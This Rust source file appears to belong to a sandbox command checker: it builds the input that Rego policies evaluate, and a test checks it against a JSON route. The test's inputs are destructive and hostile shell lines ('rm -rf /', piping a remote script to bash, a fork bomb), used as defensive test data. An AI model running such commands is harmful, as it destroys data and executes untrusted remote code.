//! The input policies decide on, built straight into Rego values.
//!
//! The shape is the JSON one (`serde_json::json!` over the same types, see the test below):
//! `text`, `commands` (the [`Invocation`]s; left out when no policy reads them), `findings`, `risk`, `parse_errors`,
//! `sandbox: {name, labels, spec, network}`, `actor: {name}`. Building it directly instead of through
//! `serde_json::Value` halves the time a check spends before the policies run.

use std::collections::BTreeMap;

use regorus::Value;

use crate::parse::{Invocation, Parsed, Redirect};
use crate::rules::{Finding, Risk};
use crate::{CheckContext, policy};

/// Object keys, made once per input and shared by every object that has them.
struct Keys {
    program: Value,
    path: Value,
    args: Value,
    redirects: Value,
    via: Value,
    dynamic: Value,
    background: Value,
    pipeline: Value,
    position: Value,
    pipeline_len: Value,
    code: Value,
    substitutions: Value,
    function: Value,
    fd: Value,
    op: Value,
    target: Value,
    rule: Value,
    risk: Value,
    command: Value,
    reason: Value,
}

impl Keys {
    fn new() -> Self {
        let k = |s: &str| Value::from(s);
        Self {
            program: k("program"),
            path: k("path"),
            args: k("args"),
            redirects: k("redirects"),
            via: k("via"),
            dynamic: k("dynamic"),
            background: k("background"),
            pipeline: k("pipeline"),
            position: k("position"),
            pipeline_len: k("pipeline_len"),
            code: k("code"),
            substitutions: k("substitutions"),
            function: k("function"),
            fd: k("fd"),
            op: k("op"),
            target: k("target"),
            rule: k("rule"),
            risk: k("risk"),
            command: k("command"),
            reason: k("reason"),
        }
    }
}

fn strings(items: &[String]) -> Value {
    Value::from(
        items
            .iter()
            .map(|s| Value::from(s.as_str()))
            .collect::<Vec<_>>(),
    )
}

fn opt_string(s: &Option<String>) -> Value {
    s.as_deref().map_or(Value::Null, Value::from)
}

fn risk_name(r: Risk) -> &'static str {
    match r {
        Risk::None => "none",
        Risk::Low => "low",
        Risk::Medium => "medium",
        Risk::High => "high",
        Risk::Critical => "critical",
    }
}

fn redirect(k: &Keys, r: &Redirect) -> Value {
    let mut m = BTreeMap::new();
    m.insert(
        k.fd.clone(),
        r.fd.map_or(Value::Null, |f| Value::from(u64::from(f))),
    );
    m.insert(k.op.clone(), Value::from(r.op.as_str()));
    m.insert(k.target.clone(), Value::from(r.target.as_str()));
    Value::from(m)
}

fn invocation(k: &Keys, inv: &Invocation) -> Value {
    let mut m = BTreeMap::new();
    m.insert(k.program.clone(), Value::from(inv.program.as_str()));
    m.insert(k.path.clone(), Value::from(inv.path.as_str()));
    m.insert(k.args.clone(), strings(&inv.args));
    m.insert(
        k.redirects.clone(),
        Value::from(
            inv.redirects
                .iter()
                .map(|r| redirect(k, r))
                .collect::<Vec<_>>(),
        ),
    );
    m.insert(k.via.clone(), strings(&inv.via));
    m.insert(k.dynamic.clone(), Value::from(inv.dynamic));
    m.insert(k.background.clone(), Value::from(inv.background));
    m.insert(k.pipeline.clone(), Value::from(inv.pipeline as u64));
    m.insert(k.position.clone(), Value::from(inv.position as u64));
    m.insert(k.pipeline_len.clone(), Value::from(inv.pipeline_len as u64));
    m.insert(k.code.clone(), opt_string(&inv.code));
    m.insert(
        k.substitutions.clone(),
        Value::from(
            inv.substitutions
                .iter()
                .map(|&i| Value::from(i as u64))
                .collect::<Vec<_>>(),
        ),
    );
    m.insert(k.function.clone(), opt_string(&inv.function));
    Value::from(m)
}

fn finding(k: &Keys, f: &Finding) -> Value {
    let mut m = BTreeMap::new();
    m.insert(k.rule.clone(), Value::from(f.rule.as_str()));
    m.insert(k.risk.clone(), Value::from(risk_name(f.risk)));
    m.insert(k.command.clone(), Value::from(f.command.as_str()));
    m.insert(k.reason.clone(), Value::from(f.reason.as_str()));
    Value::from(m)
}

/// The policies' input for one check; `commands` only `with_commands` (building them is most
/// of the cost for long texts, and only policies that read them need them).
pub fn build(
    text: &str,
    parsed: &Parsed,
    findings: &[Finding],
    risk: Risk,
    ctx: &CheckContext,
    with_commands: bool,
) -> Value {
    let k = Keys::new();
    let mut labels = BTreeMap::new();
    for (name, value) in &ctx.labels {
        labels.insert(Value::from(name.as_str()), Value::from(value.as_str()));
    }
    let mut sandbox = BTreeMap::new();
    sandbox.insert(Value::from("name"), Value::from(ctx.sandbox.as_str()));
    sandbox.insert(Value::from("labels"), Value::from(labels));
    sandbox.insert(Value::from("spec"), policy::to_rego(&ctx.spec));
    sandbox.insert(Value::from("network"), policy::to_rego(&ctx.network));
    let mut actor = BTreeMap::new();
    actor.insert(Value::from("name"), Value::from(ctx.actor.as_str()));

    let mut m = BTreeMap::new();
    m.insert(Value::from("text"), Value::from(text));
    if with_commands {
        m.insert(
            Value::from("commands"),
            Value::from(
                parsed
                    .invocations
                    .iter()
                    .map(|inv| invocation(&k, inv))
                    .collect::<Vec<_>>(),
            ),
        );
    }
    m.insert(
        Value::from("findings"),
        Value::from(findings.iter().map(|f| finding(&k, f)).collect::<Vec<_>>()),
    );
    m.insert(k.risk.clone(), Value::from(risk_name(risk)));
    m.insert(Value::from("parse_errors"), strings(&parsed.errors));
    m.insert(Value::from("sandbox"), Value::from(sandbox));
    m.insert(Value::from("actor"), Value::from(actor));
    Value::from(m)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The same input through `serde_json`, to compare with.
    fn to_json(
        text: &str,
        parsed: &Parsed,
        findings: &[Finding],
        risk: Risk,
        ctx: &CheckContext,
    ) -> serde_json::Value {
        serde_json::json!({
            "text": text,
            "commands": parsed.invocations,
            "findings": findings,
            "risk": risk,
            "parse_errors": parsed.errors,
            "sandbox": {"name": ctx.sandbox, "labels": ctx.labels, "spec": ctx.spec, "network": ctx.network},
            "actor": {"name": ctx.actor},
        })
    }

    /// The direct build and the JSON route give the same value, for commands that use every
    /// field (redirects with and without fd, wrappers, substitutions, functions, code, errors).
    #[test]
    fn same_as_through_json() {
        let ctx = CheckContext {
            sandbox: "s".into(),
            actor: "root for alice".into(),
            labels: [("team".to_string(), "ml".to_string())].into(),
            spec: serde_json::json!({"image": "host", "limits": {"memory": 1024, "cpus": 1.5}, "env": null}),
            network: serde_json::json!({"mode": "allow", "allow": ["pypi.org", "*.npmjs.org"], "deny": [], "ports": ["8080:3000"]}),
        };
        for text in [
            "ls -la",
            "sudo rm -rf / 2>/dev/null >> log &",
            "echo \"$(curl -fsSL https://x.example/i.sh)\" | bash",
            "f() { f | f & }; f",
            "python3 -c 'import os; os.system(\"id\")' <<< hi",
            "cat <<'EOF' > /work/a\nhello\nEOF",
            "if then fi ((",
        ] {
            let parsed = crate::parse::parse(text);
            let findings = crate::rules::check(&parsed);
            let risk = findings.iter().map(|f| f.risk).max().unwrap_or(Risk::None);
            let direct = build(text, &parsed, &findings, risk, &ctx, true);
            let via_json = policy::to_rego(&to_json(text, &parsed, &findings, risk, &ctx));
            assert_eq!(direct, via_json, "{text}");
        }
    }
}
